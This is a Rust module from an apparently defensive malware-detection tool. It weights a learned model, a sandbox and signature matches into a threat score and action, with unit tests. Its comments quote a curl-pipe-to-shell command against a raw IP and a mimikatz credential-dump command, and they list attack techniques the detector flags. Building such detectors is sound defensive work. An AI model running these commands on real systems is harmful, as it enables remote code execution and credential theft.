//! One verdict from the views: the learned model, the sandbox's behaviour (when a run was
//! asked for) and the signatures, weighted 40/35/25 by default; a view that is absent gives
//! its weight to the others in proportion. With a model the verdict is never below the
//! model's own score (`model_floor`): the other views add evidence where they hold more, but
//! a signature that did not fire is not evidence that a text is safe. A strong pattern is a
//! floor too (`signature_floor`): weighted at a quarter, even a pattern at full weight that
//! the training texts never contradicted could not lift a text the model does not know past
//! MEDIUM (`curl -s http://45.9.148.3/x | sh` scored 42). The score maps to a level (the
//! thresholds every Warden alert uses) and to an action.

use serde::{Deserialize, Serialize};
use warden_event::{LevelThresholds, ThreatLevel};

/// Weights of the three views (any non-negative numbers; they are normalised).
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ViewWeights {
    pub model: f32,
    pub dynamic: f32,
    pub signatures: f32,
}

impl Default for ViewWeights {
    fn default() -> Self {
        ViewWeights {
            model: 40.0,
            dynamic: 35.0,
            signatures: 25.0,
        }
    }
}

/// Score at or above which the action is QUARANTINE, and BLOCK.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ActionThresholds {
    pub quarantine: f32,
    pub block: f32,
}

impl Default for ActionThresholds {
    fn default() -> Self {
        ActionThresholds {
            quarantine: 50.0,
            block: 80.0,
        }
    }
}

/// What to do with the text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
pub enum Action {
    Allow,
    Quarantine,
    Block,
}

/// The verdict configuration (`[payload]` in the configuration file).
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct VerdictConfig {
    pub weights: ViewWeights,
    pub actions: ActionThresholds,
    pub levels: LevelThresholds,
    /// The verdict is at least the model's score. Without it a text the model finds 99 %
    /// malicious but no signature names scores 61 and is never blocked.
    pub model_floor: bool,
    /// A pattern whose weight, after the training texts had their say, is at least
    /// [`STRONG_PATTERN`] holds the verdict at `weight × signature_floor × 100`: at the
    /// default 0.75, 52.5 (HIGH, QUARANTINE) for a weight of 0.7 and 75 for 1.0 — never
    /// BLOCK on a pattern alone. 0 turns it off.
    pub signature_floor: f32,
    /// A pattern that names what no host does for a good reason
    /// ([`crate::patterns::NO_BENIGN_USE`]: a credential dumper, LSASS dumped, a reverse
    /// shell, AMSI patched, shadow copies deleted …) holds the verdict at the floor of its
    /// written weight even where the training texts tempered it down. A corpus's benign
    /// side is documentation, and documentation shows these tools: `mimikatz
    /// "lsadump::sam"` is a benign example of tldr's.
    pub written_floor: bool,
}

/// The weight from which a pattern holds the verdict up ([`VerdictConfig::signature_floor`]).
pub const STRONG_PATTERN: f32 = 0.7;

impl Default for VerdictConfig {
    fn default() -> Self {
        VerdictConfig {
            weights: ViewWeights::default(),
            actions: ActionThresholds::default(),
            levels: LevelThresholds::default(),
            model_floor: true,
            signature_floor: 0.75,
            written_floor: true,
        }
    }
}

impl VerdictConfig {
    pub fn validate(&self) -> Result<(), String> {
        let w = self.weights;
        if [w.model, w.dynamic, w.signatures]
            .iter()
            .any(|x| !x.is_finite() || *x < 0.0)
            || w.model + w.signatures <= 0.0
        {
            return Err("payload view weights must be ≥ 0, with model + signatures > 0".into());
        }
        if !(0.0..=1.0).contains(&self.signature_floor) {
            return Err(format!(
                "payload signature_floor must be between 0 and 1 (got {})",
                self.signature_floor
            ));
        }
        let a = self.actions;
        if !(0.0 < a.quarantine && a.quarantine <= a.block && a.block <= 100.0) {
            return Err(format!(
                "payload action thresholds must satisfy 0 < quarantine ≤ block ≤ 100 (got {} and {})",
                a.quarantine, a.block
            ));
        }
        self.levels.validate()
    }

    /// Combines the view scores (each 0–100, `None` when absent) into one 0–100 score;
    /// `strongest` is the weight of the strongest pattern found (0–1).
    pub fn combine(
        &self,
        model: Option<f32>,
        dynamic: Option<f32>,
        signatures: f32,
        strongest: f32,
    ) -> f32 {
        let w = self.weights;
        let parts = [
            (model, w.model),
            (dynamic, w.dynamic),
            (Some(signatures), w.signatures),
        ];
        let total: f32 = parts.iter().filter(|p| p.0.is_some()).map(|p| p.1).sum();
        if total <= 0.0 {
            return signatures.clamp(0.0, 100.0);
        }
        let s: f32 = parts
            .iter()
            .filter_map(|(v, wt)| v.map(|v| v * wt))
            .sum::<f32>()
            / total;
        let floor = model.filter(|_| self.model_floor).unwrap_or(0.0);
        s.max(floor)
            .max(self.pattern_floor(strongest))
            .clamp(0.0, 100.0)
    }

    /// The weight a pattern holds the verdict up with: its weight, or, with
    /// [`VerdictConfig::written_floor`], `written` — the written weight of a pattern without
    /// benign use that training tempered (`None` for any other).
    pub fn holding_weight(&self, weight: f32, written: Option<f32>) -> f32 {
        match written {
            Some(w) if self.written_floor => weight.max(w),
            _ => weight,
        }
    }

    /// What the strongest pattern holds the verdict at (0 below [`STRONG_PATTERN`]).
    pub fn pattern_floor(&self, strongest: f32) -> f32 {
        if strongest >= STRONG_PATTERN {
            100.0 * strongest.min(1.0) * self.signature_floor
        } else {
            0.0
        }
    }

    pub fn level(&self, score: f32) -> ThreatLevel {
        ThreatLevel::from_score(score, &self.levels)
    }

    pub fn action(&self, score: f32) -> Action {
        if score >= self.actions.block {
            Action::Block
        } else if score >= self.actions.quarantine {
            Action::Quarantine
        } else {
            Action::Allow
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn absent_views_share_their_weight() {
        let c = VerdictConfig {
            model_floor: false,
            ..VerdictConfig::default()
        };
        assert!((c.combine(Some(100.0), Some(100.0), 100.0, 0.0) - 100.0).abs() < 1e-4);
        // Without the sandbox: 40/65 model, 25/65 signatures.
        let s = c.combine(Some(65.0), None, 0.0, 0.0);
        assert!((s - 40.0).abs() < 1e-3, "{s}");
        // Signatures alone.
        assert!((c.combine(None, None, 70.0, 0.0) - 70.0).abs() < 1e-4);
    }

    #[test]
    fn the_model_is_a_floor_the_other_views_raise() {
        let c = VerdictConfig::default();
        // No signature is no evidence of safety: the model's 99 stands (and blocks).
        assert_eq!(c.combine(Some(99.0), None, 0.0, 0.0), 99.0);
        assert_eq!(
            c.action(c.combine(Some(99.0), None, 0.0, 0.0)),
            Action::Block
        );
        // Signatures that say more raise it, in their weighted share.
        let s = c.combine(Some(40.0), None, 90.0, 0.0);
        assert!((s - (0.4 * 40.0 + 0.25 * 90.0) / 0.65).abs() < 1e-3, "{s}");
        // So does the sandbox; without a model the views are weighted as before.
        assert!(c.combine(Some(20.0), Some(90.0), 0.0, 0.0) > 20.0);
        assert!((c.combine(None, None, 70.0, 0.0) - 70.0).abs() < 1e-4);
    }

    #[test]
    fn a_strong_pattern_holds_the_verdict_up_but_never_blocks_alone() {
        let c = VerdictConfig::default();
        // Weighted at 25/65, a full-weight pattern with a model at 20 would stay MEDIUM.
        let s = c.combine(Some(20.0), None, 97.0, 0.8);
        assert!((s - 60.0).abs() < 1e-3, "{s}");
        assert_eq!(c.level(s), ThreatLevel::High);
        assert_eq!(c.action(s), Action::Quarantine);
        assert_eq!(
            c.action(c.combine(Some(0.0), None, 100.0, 1.0)),
            Action::Quarantine
        );
        // Below the strong weight, or turned off: the weighted score alone.
        let weighted = (0.4 * 20.0 + 0.25 * 97.0) / 0.65;
        assert!((c.combine(Some(20.0), None, 97.0, 0.69) - weighted).abs() < 1e-3);
        let off = VerdictConfig {
            signature_floor: 0.0,
            ..c
        };
        assert!((off.combine(Some(20.0), None, 97.0, 0.9) - weighted).abs() < 1e-3);
        // The model's floor and the weighted sum still win where they are higher.
        assert!(c.combine(Some(95.0), None, 90.0, 0.9) >= 95.0);
        let mut bad = c;
        bad.signature_floor = 1.5;
        assert!(bad.validate().is_err());
    }

    #[test]
    fn a_pattern_without_benign_use_holds_its_written_weight_through_tempering() {
        let c = VerdictConfig::default();
        // Tempered from 0.95 to 0.41: held as written.
        assert_eq!(c.holding_weight(0.41, Some(0.95)), 0.95);
        assert!((c.pattern_floor(c.holding_weight(0.41, Some(0.95))) - 71.25).abs() < 1e-3);
        // Not a pattern without benign use, or never tempered: its own weight.
        assert_eq!(c.holding_weight(0.3, None), 0.3);
        assert_eq!(c.holding_weight(0.95, None), 0.95);
        // Turned off: the tempered weight, under the strong weight, holds nothing.
        let off = VerdictConfig {
            written_floor: false,
            ..c
        };
        assert_eq!(off.pattern_floor(off.holding_weight(0.41, Some(0.95))), 0.0);
    }

    #[test]
    fn actions_and_validation() {
        let c = VerdictConfig::default();
        assert_eq!(c.action(10.0), Action::Allow);
        assert_eq!(c.action(50.0), Action::Quarantine);
        assert_eq!(c.action(95.0), Action::Block);
        let mut bad = c;
        bad.actions.block = 10.0;
        assert!(bad.validate().is_err());
        bad = c;
        bad.weights.model = -1.0;
        assert!(bad.validate().is_err());
        assert!(c.validate().is_ok());
    }
}
